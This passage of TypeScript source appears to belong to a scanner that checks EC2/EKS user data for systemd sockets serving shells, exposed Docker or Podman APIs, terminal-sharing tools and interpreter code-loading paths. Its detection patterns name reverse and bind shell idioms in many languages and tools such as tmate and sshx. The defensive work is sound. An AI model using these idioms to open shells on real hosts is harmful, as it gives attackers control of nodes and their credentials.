    { path: /^\/etc\/(xinetd\.conf|xinetd\.d\/[^/]+)$/, read: xinetdListeners },
    { path: exactly(INETD_CONF), read: inetdListeners },
    { path: /^\/etc\/stunnel\/[^/]+\.conf$/, read: stunnelListeners },
    { path: /^\/etc\/(exports|exports\.d\/[^/]+\.exports)$/, read: exportsListeners },
    { path: exactly(RSYNCD_CONF), read: text => rsyncdListeners(text) },
    { path: exactly(SMB_CONF), read: sambaListeners },
];

/** A systemd unit file or drop-in (systemd.unit(5), "Unit File Load Path"): the unit's name, or undefined. */
const UNIT_PATH = /^\/(etc|run|usr\/lib|usr\/local\/lib|lib)\/systemd\/system\/([^/]+?)(\.d\/[^/]+\.conf)?$/;

/**
 * A socket unit's service shipped with the AMI's packages that serves a root-power API (rootApiOnNetwork) on it: by
 * the socket's name, and by its service (systemd.socket(5) Service=: "Specifies the service unit name to activate on
 * incoming traffic": an own socket unit with Service=docker.service hands its sockets to dockerd's `-H fd://`).
 */
const ROOT_API_SOCKET_UNITS: Record<string, string> = {
    // docker.service: `dockerd -H fd://` takes every socket docker.socket passes (Docker docs, "Configure remote
    // access for Docker daemon": a docker.socket ListenStream= drop-in puts the API on TCP).
    "docker.socket": DOCKER_API,
    // podman.service: `podman system service` (podman-system-service(1): "supports systemd socket activation").
    "podman.socket": PODMAN_API,
    "docker.service": DOCKER_API,
    "podman.service": PODMAN_API,
};

/**
 * Whether a unit file or drop-in at `path` (UNIT_PATH) configures `unit` (systemd.unit(5), "Description": besides
 * foo.socket.d/, "a unit-type drop-in directory" (service.d/, socket.d/ ...) applies to every unit of that type, and for
 * a name with dashes every prefix ending in a dash (foo-.service.d/ for foo-bar.service); systemd 246+, AL2023 has 252).
 */
function configuresUnit(path: string, unit: string): boolean {
    const m = UNIT_PATH.exec(path);
    if (!m) return false;
    if (m[2] === unit) return true;
    if (m[3] === undefined) return false;
    const type = unit.slice(unit.lastIndexOf(".") + 1);
    if (m[2] === type) return true;
    const prefix = new RegExp(`^(.+-)\\.${type}$`).exec(m[2])?.[1];
    return prefix !== undefined && unit.startsWith(prefix);
}

/**
 * Socket units user data writes (or drops in for), read for what their services serve where the socket listens
 * (ListenStream=, ListenDatagram=, ListenSequentialPacket=: a port alone or an address is the network, a path or an
 * @abstract name a unix socket). `files` are the unit files user data writes, in order; later files and drop-ins
 * override, and an empty assignment resets a list (systemd.socket(5), systemd.service(5)).
 * - A root-power API's socket (ROOT_API_SOCKET_UNITS, or a service of user data's running dockerd or `podman system
 *   service`, which take the sockets systemd passes): any network address is that API on the network
 *   (rootApiOnNetwork), a path under a directory pods may write theirs (rootApiSockets).
 * - A service taking the connection as its standard input (systemd.exec(5) StandardInput=socket or fd:NAME; with
 *   Accept=yes one NAME@.service instance per connection, systemd.socket(5) "only the connection socket is passed to
 *   it"): a shell or interpreter on it (runsClientCommands) beyond loopback is an inetd shell on every node address,
 *   and a network client in it relays each connection (servedRelays, read with the files user data writes: `fileText`)
 *   from where the socket listens, joined per user data as every forwarder is (loopbackJoin).
 */
function socketShellOpenings(
    files: readonly { path: string; text: string }[],
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
): NodeOpening[] {
    const settings = (unit: string) => {
        const out: { section: string; key: string; value: string }[] = [];
        // The unit's own file, then its drop-ins, its type's and prefixes' too (configuresUnit), in the order of their
        // file names (systemd.unit(5): drop-ins are read after it, "in lexicographic order" of their names).
        const own = files.filter(f => configuresUnit(f.path, unit));
        const dropIns = own.filter(f => f.path.includes(".d/"));
        for (const f of [
            ...own.filter(f => !f.path.includes(".d/")),
            ...dropIns.sort((a, b) => (posix.basename(a.path) < posix.basename(b.path) ? -1 : 1)),
        ]) {
            let section = "";
            for (const raw of f.text.replace(/\\\r?\n/g, " ").split(/\r?\n/)) {
                const line = raw.trim();
                const header = /^\[([^\]]+)\]$/.exec(line);
                if (header) section = header[1];
                const kv = /^([A-Za-z][A-Za-z0-9]*)\s*=\s*(.*)$/.exec(line);
                if (kv) out.push({ section, key: kv[1], value: kv[2].trim() });
            }
        }
        return out;
    };
    // A list setting: each line adds, an empty assignment resets (systemd.socket(5), systemd.service(5)).
    const values = (entries: { key: string; value: string }[], keys: RegExp) =>
        entries
            .filter(e => keys.test(e.key))
            .reduce<string[]>((acc, e) => (e.value === "" ? [] : [...acc, e.value]), []);
    // An Exec line's argv (systemd.service(5) "Command lines"): `@` makes the second word argv[0], not an argument.
    const argvOf = (v: string) => {
        const prefix = /^[-@:+!|]*/.exec(v)![0];
        const words = simpleCommands(v.slice(prefix.length))[0]?.words ?? [];
        return (prefix.includes("@") ? [words[0], ...words.slice(2)] : words).map(w => w ?? "");
    };
    const quoted = (argv: readonly string[]) =>
        argv.map(w => (/[\s"'\\$`;&|<>()]/.test(w) ? `'${w.replace(/'/g, "'\\''")}'` : w)).join(" ");
    const out: NodeOpening[] = [];
    // Socket units user data writes or drops in for, and the packaged root-power ones a type-wide or prefix drop-in
    // reaches (configuresUnit).
    const sockets = new Set([
        ...files.flatMap(f => UNIT_PATH.exec(f.path)?.[2] ?? []).filter(u => u.endsWith(".socket")),
        ...Object.keys(ROOT_API_SOCKET_UNITS).filter(u => u.endsWith(".socket")),
    ]);
    for (const socket of sockets) {
        const socketSettings = settings(socket).filter(e => e.section === "Socket");
        const listens = values(socketSettings, /^Listen(Stream|Datagram|SequentialPacket)$/);
        const network = listens.filter(a => !/^[/@]/.test(a));
        const accept = /^(yes|true|1|on)$/i.test(socketSettings.filter(e => e.key === "Accept").at(-1)?.value ?? "");
        const base = socket.replace(/\.socket$/, "");
        const service = accept
            ? `${base}@.service`
            : (socketSettings.filter(e => e.key === "Service").at(-1)?.value ?? `${base}.service`);
        const serviceSettings = settings(service).filter(e => e.section === "Service");
        const execs = values(serviceSettings, /^ExecStart$/).map(v => ({ line: v, argv: argvOf(v) }));
        const where = `user data's ${socket} (ListenStream= ${listens.join(", ")})`;
        const runs = (argv: readonly string[]) => {
            const words = appletWords(argv);
            const program = posix.basename(words[0] ?? "");
            return program === "dockerd"
                ? DOCKER_API
                : program === "podman" && words.some((w, i) => w === "system" && words[i + 1] === "service")
                  ? PODMAN_API
                  : undefined;
        };
        const api =
            ROOT_API_SOCKET_UNITS[socket] ??
            execs.map(e => runs(e.argv)).find(a => a !== undefined) ??
            (execs.length === 0 ? ROOT_API_SOCKET_UNITS[service] : undefined);
        if (api !== undefined) {
            if (network.length > 0) out.push(rootApiOnNetwork(api, network.join(", "), where));
            out.push(...rootApiSockets(listens, where, `${socket}'s Listen setting`));
        }
        if (network.length === 0) continue;
        const input = serviceSettings.filter(e => e.key === "StandardInput").at(-1)?.value ?? "";
        if (!/^(socket|fd(:.*)?)$/.test(input)) continue;
        const how = `${socket} listening on ${network.join(", ")}`;
        const shell = execs.find(e => runsClientCommands(commandLine(e.argv)));
        if (shell && !loopbackOnly(network))
            out.push(shellServed(how, `${service} runs ExecStart=${shell.line} with StandardInput=${input}`));
        // A bare port listens on every address ([::] with IPv4 too: systemd.socket(5) BindIPv6Only= default "both").
        const at = network.map(a => (/^\d+$/.test(a) ? `[::]:${a}` : a));
        for (const { line, argv } of execs)
            out.push(
                ...forwarderMarks(
                    servedRelays(quoted(argv), fileText, view).map(to => ({
                        forwarder: `${service} (ExecStart=${line}, StandardInput=${input})`,
                        listens: at,
                        to,
                    })),
                    how,
                ),
            );
    }
    return out;
}

const shellServed = (how: string, what: string): NodeOpening => ({
    who: "every pod that reaches the node",
    what: `user data serves a shell on the node's network (${how}: ${what}): whoever connects runs commands on the node as its user, root unless set otherwise, and the node's network reaches instance metadata (the node role); every pod reaches the node's addresses. Listen on 127.0.0.1 or a unix socket only, or run a service that authenticates its clients`,
    anyInstance: {
        who: ON_THE_NETWORK,
        what: `user data serves a shell on the instance's network (${how}: ${what}): whoever connects runs commands there and ${INSTANCE_ROLE_THROUGH_IMDS}; listen on 127.0.0.1 or a unix socket only`,
    },
});

/**
 * A shell on the node handed to another host by a program that dials out (shellsHandedOut, lineRelays): whoever holds
 * that end runs commands on the node, with its network (instance metadata: the node role) and its files (every pod's
 * token), though nothing listens on the node's addresses.
 */
const shellHandedOut = (how: string, what: string): NodeOpening => ({
    who: "whoever holds the far end of a shell user data hands out",
    what: `user data hands a shell on the node to another host (${how}: ${what}): whoever holds that end runs commands on the node as its user, root unless set otherwise, with the node's network (instance metadata: the node role) and files (every pod's token). Run no reverse shell or terminal-sharing service on a node; reach it through SSM Session Manager`,
    anyInstance: {
        who: "whoever holds the far end of a shell user data hands out",
        what: `user data hands a shell on the instance to another host (${how}: ${what}): whoever holds that end runs commands there and ${INSTANCE_ROLE_THROUGH_IMDS}`,
    },
});

/**
 * Terminal-sharing programs that dial out to a relay service and hand the terminal (a shell, or the command they run)
 * to whoever holds the session's address: tmate (tmate.io, "Instant terminal sharing": `tmate` prints the ssh and web
 * URLs of a session on tmate.io's servers, or on the server its configuration names), upterm (owenthereal/upterm
 * README: `upterm host -- bash` shares the terminal through an uptermd server, clients `ssh` into it), sshx (sshx.io:
 * "share your terminal" at a link), tty-share `--public` (elisescu/tty-share: through the tty-share.com proxy) and
 * Teleconsole. `commands` the operand that starts a session, `options` an option that makes it public; SHARER_INFO the
 * words that only print help or a version.
 */
const SHELL_SHARERS: { names: RegExp; commands?: RegExp; options?: RegExp; far: string }[] = [
    { names: /^tmate$/, far: "a tmate session's ssh and web URLs" },
    { names: /^upterm$/, commands: /^host$/, far: "an upterm session on its uptermd server" },
    { names: /^sshx$/, far: "an sshx.io session link" },
    { names: /^tty-share$/, options: /^--public(=true)?$/, far: "a tty-share.com public session" },
    { names: /^teleconsole$/, far: "a Teleconsole session" },
];
const SHARER_INFO = /^(-V|--version|-h|--help|help|version)$/;

/** A shell, a pty or a subprocess in program text (execve(2) of a shell, dup2(2) of a socket onto standard input). */
const SHELL_IN_CODE =
    /\/bin\/\w*sh\b|\b(ba|z|da|k)?sh\s+-i\b|["'`](ba|z|da|k)?sh["'`]|\b(exec(l|le|lp|lpe|v|ve|vp|vpe|Sync|File|FileSync)?|spawn(Sync|l|le|lp|lpe|v|ve|vp|vpe)?|popen[234]?|system|pty|dup2|fork|subprocess|child_process|proc_open|shell_exec|passthru|pcntl_exec|Open3|posix_spawnp?)\b/;
/**
 * Interpreters whose code connects or accepts a socket (`socket`): Python (socket.socket, socket.create_connection,
 * asyncio streams), Perl (perlfunc socket/connect, IO::Socket), Ruby (TCPSocket, TCPServer, Socket), PHP (fsockopen,
 * stream_socket_client/server, socket_create), Node.js (the net module), Lua (LuaSocket); `code` the options whose value
 * is the program text (python -c, perl -e/-E, ruby -e, php -r, node -e/-p, lua -e). With a shell, pty or subprocess
 * (SHELL_IN_CODE) in the same code, the connection is the shell's (a reverse or bind shell: Python docs, os.dup2 and
 * pty.spawn; perlfunc exec; Ruby Kernel#exec/spawn; PHP proc_open; Node.js child_process.spawn).
 */
const SOCKET_SHELL_CODE: {
    names: RegExp;
    code: RegExp;
    socket: RegExp;
    /** Its operands are program text too (awk's program is its first operand unless -f names a file). */
    operands?: true;
    /** How its code runs a command besides SHELL_IN_CODE's. */
    shell?: RegExp;
}[] = [
    {
        names: /^python[0-9.]*$/,
        code: /^-c$/,
        socket: /\bsocket\.(socket|create_connection|create_server|fromfd|socketpair)\s*\(|\b(create_connection|create_server|open_connection|start_server)\s*\(|\bsocket\s*\(/,
    },
    { names: /^perl$/, code: /^-[eE]$/, socket: /IO::Socket|\bsocket\s*\(|\bconnect\s*\(|\bSocket\b/ },
    { names: /^ruby$/, code: /^-e$/, socket: /\b(TCPSocket|TCPServer|UNIXSocket|UDPSocket|Socket)\b|['"]socket['"]/ },
    {
        names: /^php[0-9.]*$/,
        code: /^(-[rBRE]|--(run|process-(begin|code|end)))$/,
        socket: /\b(p?fsockopen|stream_socket_(client|server)|socket_(create|connect))\b/,
    },
    {
        names: /^(node|nodejs|bun|deno)$/,
        code: /^(-e|--eval|-p|--print)$/,
        socket: /['"](node:)?net['"]|\bnet\.(connect|createConnection|Socket|createServer)\b|\bDeno\.(connect|listen)\b|\bBun\.(connect|listen)\b/,
    },
    // LuaJIT runs lua's -e chunk (shell.ts INTERPRETERS) and loads LuaSocket as lua does.
    { names: /^(lua[0-9.]*|luajit)$/, code: /^-e$/, socket: /\bsocket\b/ },
    // Tcl manual, socket(n) ("socket ?options? host port" opens a client channel, -server a listening one) and exec(n)
    // (subprocesses; SHELL_IN_CODE), `open "|cmd"` a pipeline; expect(1) "-c" a command to run. tclsh reads its
    // script from a file operand or standard input.
    {
        names: /^(tclsh[0-9.]*|wish[0-9.]*|expect)$/,
        code: /^-c$/,
        socket: /\bsocket\b/,
        shell: /\bopen\s+["{]?\|/,
    },
    // GNU awk manual, "TCP/IP Networking" (`/inet/tcp/lport/rhost/rport` special files, read and written with the `|&`
    // coprocess operator) and "Two-Way Communications with Another Process" (`command |& getline` runs the command
    // through the shell, as `command | getline` and system() do). awk is gawk on Amazon Linux.
    {
        names: /^g?awk$/,
        code: /^(-e|--source|-W)$/,
        operands: true,
        socket: /\/inet[46]?\/(tcp|udp)\//,
        shell: /\|&|\|\s*getline\b|\bsystem\s*\(/,
    },
];

/**
 * Code an interpreter loads besides its program (round 66: the class of a module or file its options, environment or
 * code name), the one table of them: each interpreter family's `options` (what programOptions read: the environment's
 * options are among them, rootReads environmentOptions), `code` (the statements of its program text that load a file
 * or module), `dirs` (where a name is looked up, `?` the name's path: the options' and the code's own directories
 * first) and `known` (the standard library and packaged modules loaded by name, whose code the pack takes as the
 * image's; SOCKET_SHELL_CODE judges the program using them). A load is the first file of its candidates user data
 * wrote (read as program text by the same judge, its own loads followed); one changed in a way the pack cannot compute,
 * a name or path the pack cannot compute (`$`, a non-literal argument), or one found nowhere user data writes and not
 * `known`, is code the pack cannot read (fail closed, as node's preloads: nodeEntry).
 * - gawk (GNU awk manual, "Command-Line Options": `-i source-file`/`--include=source-file` "Read an awk source library
 *   from source-file", `-l ext`/`--load=ext` a shared library; "Including Other Files into Your Program": `@include
 *   "file"`, searched in AWKPATH (default ".:/usr/local/share/awk"), `.awk` appended when not found; "Loading Dynamic
 *   Extensions": `@load`): the libraries and extensions gawk ships are known;
 * - perl (perlrun(1): `-Mmodule`/`-mmodule` "executes use module" before the program, `-Idirectory` prepended to @INC,
 *   `-d:MOD` loads Devel::MOD; ENVIRONMENT: PERL5OPT's switches "as if they appeared on every Perl command line",
 *   PERL5LIB/PERLLIB directories; `-Mlib=DIR` is `use lib`): Foo::Bar is Foo/Bar.pm on @INC; in code (round 67)
 *   do/require FILE, use/require Module and eval of a string (perlLoads);
 * - ruby (ruby(1): `-r library` "Causes Ruby to load the library using require" before the script, `-I directory`
 *   added to $LOAD_PATH; RUBYOPT's options, RUBYLIB's directories): `lib` is lib.rb on $LOAD_PATH, a path as itself;
 *   in code (round 67) require/require_relative/load/autoload and eval of a string (rubyLoads);
 * - php (PHP manual, "Core php.ini directives": auto_prepend_file/auto_append_file "parsed before/after the main file
 *   ... as if it was called with the require function"; CLI `-d foo[=bar]`, `-c path|file` the php.ini, PHPRC):
 *   the directives of `-d` and of the php.ini user data wrote; in code (round 67) include/require(_once) and eval
 *   (phpLoads);
 * - lua/luajit (lua(1): `-l name` "require library name" before the script, LUA_INIT ("@filename" runs the file, else
 *   the code), LUA_PATH the path of require; Lua manual: `dofile (filename)` "Opens the named file and executes its
 *   contents as a Lua chunk", `loadfile`, `require (modname)` on package.path, `load`/`loadstring` of a string;
 *   LuaJIT's default package.path starts with "./?.lua"): a module `a.b` is a/b.lua on the path;
 * - Tcl (source(n) "Evaluate a file or resource as a Tcl script"; load(n) a shared library; package(n) `package
 *   require` through auto_path's pkgIndex.tcl files, which the pack does not follow: a name not known is unread;
 *   eval(n)/uplevel(n) of `[read [open FILE]]` that file, of other substituted text computed).
 */
interface CodeLoad {
    /** How the program names it (`-MRev`, `dofile("/opt/r.lua")`). */
    what: string;
    /** The files it may be, in lookup order; none when the pack cannot compute it. */
    paths: string[];
    /** A standard or packaged module: taken as the image's when user data writes none of its paths. */
    known?: boolean;
    /** Code it runs as given (perldebug PERL5DB's): judged with the program, its own loads followed. */
    text?: string;
    /** Why the pack cannot read it, when no path is (a package index's `package ifneeded` scripts). */
    unread?: string;
}
const literalPath = (word: string) => (/[$`]|^$/.test(word) ? undefined : word);
const CODE_LOADERS: {
    names: RegExp;
    options: (
        values: readonly [string, string][],
        cwd: string,
        /** A file's text (readConfig; `within` as there: a tree only named above it does not count). */
        file: (path: string, within?: string) => string | null | undefined,
        written: () => Iterable<string>,
        environment: ReadonlyMap<string, string>,
    ) => CodeLoad[];
    /** `values` the interpreter's options, `environment` its loader variables (rootReads loaderEnvironment). */
    code: (
        text: string,
        cwd: string,
        values: readonly [string, string][],
        environment: ReadonlyMap<string, string>,
    ) => CodeLoad[];
}[] = [
    {
        names: /^g?awk$/,
        options: (values, cwd, _file, _written, environment) =>
            values.flatMap(([o, v]) =>
                /^(-i|--include)$/.test(o)
                    ? [awkLoad(`${o} ${v}`, v, cwd, "source", environment)]
                    : /^(-l|--load)$/.test(o)
                      ? [awkLoad(`${o} ${v}`, v, cwd, "extension", environment)]
                      : [],
            ),
        code: (text, cwd, _values, environment) =>
            [...text.matchAll(/^\s*@(include|load)\s+("(?:[^"\\]|\\.)*"|\S+)/gm)].map(m =>
                /^"/.test(m[2])
                    ? awkLoad(
                          m[0].trim(),
                          m[2].slice(1, -1),
                          cwd,
                          m[1] === "load" ? "extension" : "source",
                          environment,
                      )
                    : { what: m[0].trim(), paths: [] },
            ),
    },
    {
        names: /^perl$/,
        options: (values, cwd, _file, _written, environment) => {
            const dirs = [...perlIncDirs(values, cwd), ...PERL_INC];
            return values.flatMap(([o, v]): CodeLoad[] => {
                const module =
                    /^-[mM]$/.test(o) && !/^-?lib(=|$)/.test(v)
                        ? v.replace(/^-/, "").replace(/[=\s][\s\S]*$/, "")
                        : o === "-d" && /^t?:/.test(v)
                          ? `Devel::${v.replace(/^t?:/, "").replace(/=[\s\S]*$/, "")}`
                          : undefined;
                if (module === undefined) return perlDebugger(o, v, environment);
                return [perlModule(`${o}${v}`, module, dirs)];
            });
        },
        code: perlLoads,
    },
    {
        names: /^ruby$/,
        options: (values, cwd) => {
            const dirs = [
                ...values.filter(([o]) => o === "-I").map(([, v]) => posix.resolve(cwd, v)),
                ...RUBY_LOAD_PATH,
            ];
            return values.filter(([o]) => o === "-r").map(([o, v]) => rubyLibrary(`${o}${v}`, v, cwd, dirs));
        },
        code: rubyLoads,
    },
    {
        names: /^php$/,
        // The php.ini it reads: -c's file (or php.ini in -c's directory; PHPRC is read as -c: environmentOptions), else
        // /etc/php.ini, and the .ini files of its scan directories (PHP manual, "The configuration file": "additional
        // .ini files" of the compile-time scan directory, /etc/php.d, or of PHP_INI_SCAN_DIR's directories, separated
        // by `:`, a blank one the compile-time directory), whatever -c says; -n reads none.
        options: (values, cwd, file, written, environment) => {
            const defines = values.flatMap(([o, v]) => {
                const directive = /^(-d|--define)$/.test(o)
                    ? /^\s*auto_(?:prepend|append)_file\s*=([\s\S]*)$/.exec(v)
                    : null;
                return directive ? phpPrepends(`${o} ${v}`, directive[1], cwd) : [];
            });
            if (values.some(([o]) => o === "-n")) return defines;
            const given = values.filter(([o]) => /^(-c|--php-ini)$/.test(o)).map(([, v]) => posix.resolve(cwd, v));
            const scanDir = environment.get("PHP_INI_SCAN_DIR");
            const scanned = (scanDir ?? "").split(":").flatMap((d): (CodeLoad | string)[] => {
                const dir = d === "" ? "/etc/php.d" : literalPath(d) === undefined ? undefined : posix.resolve(cwd, d);
                // A directory the pack cannot compute, or changed in a way it cannot (an unpacked tree): its .ini files
                // are unknown.
                if (dir === undefined || file(posix.join(dir, "*.ini"), posix.join(dir, "*.ini")) === null)
                    return [
                        {
                            what: `PHP_INI_SCAN_DIR ${d === "" ? "/etc/php.d" : d}`,
                            paths: [],
                            unread:
                                dir === undefined ? undefined : "a directory changed in a way the pack cannot compute",
                        },
                    ];
                return [...written()].filter(p => posix.dirname(p) === dir && /\.ini$/.test(p));
            });
            const inis = [
                ...(given.length > 0
                    ? given.flatMap(p => (/\.ini$/.test(p) ? [p] : [p, posix.join(p, "php.ini")]))
                    : ["/etc/php.ini"]),
                ...scanned.filter((x): x is string => typeof x === "string"),
            ];
            return [
                ...scanned.filter((x): x is CodeLoad => typeof x !== "string"),
                ...inis.flatMap(ini => {
                    const text = file(ini);
                    if (text === null) return [{ what: `its php.ini ${ini}`, paths: [] }];
                    return [...(text ?? "").matchAll(/^\s*auto_(?:prepend|append)_file\s*=([^\n;]*)/gm)].flatMap(m =>
                        phpPrepends(`${ini}: ${m[0].trim()}`, m[1], cwd),
                    );
                }),
                ...defines,
            ];
        },
        code: phpLoads,
    },
    {
        names: /^(lua[0-9.]*|luajit)$/,
        // -l's module on the path its -e chunks set (LUA_PATH and LUA_CPATH come so: environmentOptions).
        options: (values, cwd) => {
            const path = luaPath(values.filter(([o]) => o === "-e").map(([, v]) => v));
            return values.filter(([o]) => o === "-l").map(([o, v]) => luaModule(`${o}${v}`, v, cwd, path));
        },
        code: (text, cwd) => {
            const path = luaPath([text]);
            const call =
                /\b(dofile|loadfile|require|loadstring|load)\b\s*(?:\(\s*)?(\[\[[\s\S]*?\]\]|"[^"]*"|'[^']*'|[^)\s]*)/g;
            return [...text.matchAll(call)].flatMap(([what, fn, arg]): CodeLoad[] => {
                const literal = /^(\[\[|["'])/.test(arg) ? arg.replace(/^\[\[|\]\]$|^["']|["']$/g, "") : undefined;
                // load/loadstring of a literal: that code is in the text already.
                if (/^load(string)?$/.test(fn)) return literal === undefined ? [{ what, paths: [] }] : [];
                if (literal === undefined || /^\s*$/.test(literal)) return [{ what, paths: [] }];
                return fn === "require"
                    ? [luaModule(what, literal, cwd, path)]
                    : [{ what, paths: [posix.resolve(cwd, literal)] }];
            });
        },
    },
    {
        names: /^(tclsh[0-9.]*|wish[0-9.]*|expect)$/,
        // The package indexes on auto_path (tclvars(n): TCLLIBPATH's directories first, then tcl_library, its parent
        // and tcl_pkgPath), each directory's pkgIndex.tcl and its subdirectories' (package(n), tclPkgUnknown), which
        // `package require` sources; their `package ifneeded` scripts, run for the package, the pack does not
        // evaluate: an index user data writes (or one in a directory it changed in a way the pack cannot compute, or
        // named in a way it cannot) is code the pack cannot read, whatever package it names.
        options: (_values, cwd, file, written, environment) => {
            const libPath = environment.get("TCLLIBPATH");
            const given = (libPath ?? "").match(/\{[^}]*\}|\S+/g) ?? [];
            const dirs = [
                ...given.map(d => d.replace(/^\{|\}$/g, "")).map(d => ({ d, given: true })),
                ...TCL_AUTO_PATH.map(d => ({ d, given: false })),
            ];
            const files = [...written()].filter(p => posix.basename(p) === "pkgIndex.tcl");
            return dirs.flatMap(({ d, given }): CodeLoad[] => {
                if (/[$[\\`]/.test(d)) return [{ what: `TCLLIBPATH=${libPath}`, paths: [] }];
                const dir = posix.resolve(cwd, d);
                const index = posix.join(dir, "pkgIndex.tcl");
                return [
                    ...new Set([
                        // A TCLLIBPATH directory changed in a way the pack cannot compute (an unpacked tree).
                        ...(given && file(index, index) === null ? [index] : []),
                        ...files.filter(p => posix.dirname(p) === dir || posix.dirname(posix.dirname(p)) === dir),
                    ]),
                ].map(p => ({
                    what: `the package index ${p} (auto_path ${dir})`,
                    paths: [],
                    unread: "whose `package ifneeded` scripts the pack cannot read",
                }));
            });
        },
        code: (text, cwd) => [
            ...[
                ...text.matchAll(
                    /(?:^|[;\n[{]\s*)(source|load|package\s+require)\s+((?:-\S+\s+)*)("[^"]*"|\{[^}]*\}|[^\s;\]}]+)/g,
                ),
            ].map(([what, command, , arg]): CodeLoad => {
                const word = arg.replace(/^["{]|["}]$/g, "");
                return /^package/.test(command)
                    ? { what: what.trim(), paths: [], known: TCL_KNOWN_PACKAGES.test(word) }
                    : command === "load" || tclPath(word) === undefined
                      ? { what: what.trim(), paths: [] }
                      : { what: what.trim(), paths: [posix.resolve(cwd, word)] };
            }),
            // eval(n)/uplevel(n)/namespace eval of text: `[read [open FILE]]` is that file's code (read(n), open(n));
            // a braced or plain-word body is in the text already; anything substituted (`$`, `[...]`) is computed.
            ...[
                ...text.matchAll(/(?:^|[;\n[{])\s*(eval|uplevel(?:\s+#?\d+)?|namespace\s+eval\s+\S+)\s+([^;\n]*)/g),
            ].flatMap(([, command, args]): CodeLoad[] => {
                const what = `${command} ${args.trim()}`.slice(0, 80);
                const read =
                    /^\[\s*read\s+(?:-nonewline\s+)?\[\s*open\s+("[^"]*"|\{[^}]*\}|[^\s\]]+)(?:\s+\w+)?\s*\]\s*\]\s*\]?$/.exec(
                        args.trim(),
                    );
                const file = read && tclPath(read[1].replace(/^["{]|["}]$/g, ""));
                if (read)
                    return [{ what, paths: file === undefined || file === null ? [] : [posix.resolve(cwd, file)] }];
                return /^\{/.test(args.trim()) || !/[$[\\]/.test(args) ? [] : [{ what, paths: [] }];
            }),
        ],
    },
];
/**
 * The code perl -d runs to load its debugger (perldebug(1) ENVIRONMENT, PERL5DB: "The command used to load the debugger
 * code. The default is: BEGIN { require "perl5db.pl" }", a core file): PERL5DB's, as given; -d:MOD sets it to `use
 * Devel::MOD` (perlrun(1)).
 */
function perlDebugger(option: string, value: string, environment: ReadonlyMap<string, string>): CodeLoad[] {
    const code = environment.get("PERL5DB");
    return option === "-d" && !/^t?[:=]/.test(value) && code !== undefined
        ? [{ what: `PERL5DB='${code}' (perl ${option}${value})`, paths: [], text: code }]
        : [];
}
/** perl's @INC on Amazon Linux (perl -V: site, vendor and core directories); `.` is not in it (perl 5.26+). */
const PERL_INC = [
    "/usr/local/lib64/perl5",
    "/usr/local/share/perl5",
    "/usr/lib64/perl5/vendor_perl",
    "/usr/share/perl5/vendor_perl",
    "/usr/lib64/perl5",
    "/usr/share/perl5",
];
/** Perl core modules and pragmas (perlmodlib) and the distribution's packaged JSON/YAML/LWP, loaded by name. */
const PERL_KNOWN_MODULES =
    /^(strict|warnings|utf8|lib|constant|integer|feature|vars|bytes|open|locale|overload|parent|base|fields|bigint|bignum|English|POSIX|Socket|Carp|Cwd|Fcntl|Storable|Errno|Exporter|Benchmark|Encode|Config|DB_File|(IO|File|Data|Getopt|Time|List|Scalar|MIME|Digest|Sys|IPC|Net|Text|Term|Hash|JSON|YAML|Math|Pod|Test|Tie|Unicode|HTTP|LWP|URI|Encode|Storable|Compress|Archive|Module|Params|Filter|I18N|Attribute|Class|Search|Safe|Thread|threads|Devel::Peek)(::\w+)*)$/;
/** ruby's $LOAD_PATH on Amazon Linux (`ruby -e 'puts $:'`): site, vendor and the standard library's directories. */
const RUBY_LOAD_PATH = [
    "/usr/local/share/ruby/site_ruby",
    "/usr/local/lib64/ruby/site_ruby",
    "/usr/share/ruby/vendor_ruby",
    "/usr/lib64/ruby/vendor_ruby",
    "/usr/share/ruby",
    "/usr/lib64/ruby",
];
/** Ruby's standard library and default gems (ruby docs, "Standard Library"), loaded by name (`-run` is un.rb). */
const RUBY_KNOWN_LIBRARIES =
    /^(socket|json|yaml|psych|net\/\w+|open-uri|uri|fileutils|optparse|securerandom|digest(\/\w+)?|base64|time|date|set|erb|open3|etc|un|pp|English|tempfile|tmpdir|pathname|logger|webrick|zlib|openssl|resolv|ipaddr|timeout|shellwords|csv|benchmark|stringio|strscan|io\/\w+|rbconfig|objspace|find|forwardable|singleton|ostruct|bigdecimal|coverage|ripper|monitor|weakref|observer|delegate|abbrev|getoptlong|syslog|pstore|prime|matrix|rubygems|bundler(\/setup)?)$/;
/**
 * Lua's default package.path and package.cpath (luaconf.h LUA_PATH_DEFAULT/LUA_CPATH_DEFAULT for 5.1-5.4, LuaJIT's
 * "./?.lua" first and its share/luajit-2.1), the templates a module name is looked up in.
 */
const LUA_PATH = [
    "./?.lua",
    "./?/init.lua",
    "./?.so",
    ...["5.1", "5.2", "5.3", "5.4"].flatMap(v => [
        `/usr/local/share/lua/${v}/?.lua`,
        `/usr/local/share/lua/${v}/?/init.lua`,
        `/usr/share/lua/${v}/?.lua`,
        `/usr/share/lua/${v}/?/init.lua`,
        `/usr/local/lib/lua/${v}/?.so`,
        `/usr/lib64/lua/${v}/?.so`,
    ]),
    "/usr/local/share/luajit-2.1/?.lua",
    "/usr/share/luajit-2.1/?.lua",
];
/** Lua's standard libraries, LuaJIT's own, and the common packaged ones (LuaSocket, LuaFileSystem, lua-cjson ...). */
const LUA_KNOWN_MODULES =
    /^(socket(\.\w+)?|ltn12|mime(\.core)?|cjson(\.safe)?|lfs|lpeg|posix(\.\w+)?|ssl(\.\w+)?|jit(\.\w+)?|ffi|bit|bit32|string(\.buffer)?|table(\.\w+)?|math|io|os|coroutine|debug|utf8|package)$/;
/**
 * The templates a module is looked up in: those package.path and package.cpath (Lua manual: the paths of require's Lua
 * and C loaders; LUA_PATH and LUA_CPATH are read so: rootReads environmentOptions) are set to by the code, as literals,
 * before the default path.
 */
function luaPath(texts: readonly string[]): string[] {
    return [
        ...texts.flatMap(text =>
            [...text.matchAll(/\bpackage\.c?path\s*=([^\n;]*(?:;[^\n=]*)*)/g)].flatMap(m =>
                [...m[1].matchAll(/\[\[([\s\S]*?)\]\]|"([^"]*)"|'([^']*)'/g)].flatMap(s =>
                    (s[1] ?? s[2] ?? s[3]).split(";").filter(t => t.includes("?")),
                ),
            ),
        ),
        ...LUA_PATH,
    ];
}
/** A module Lua looks up by name (require, lua -l): `a.b` is a/b on each template of the path. */
function luaModule(what: string, name: string, cwd: string, templates: readonly string[]): CodeLoad {
    if (literalPath(name) === undefined) return { what, paths: [] };
    const file = name.replaceAll(".", "/");
    return {
        what,
        paths: templates.map(t => posix.resolve(cwd, t.replaceAll("?", file))),
        known: LUA_KNOWN_MODULES.test(name),
    };
}
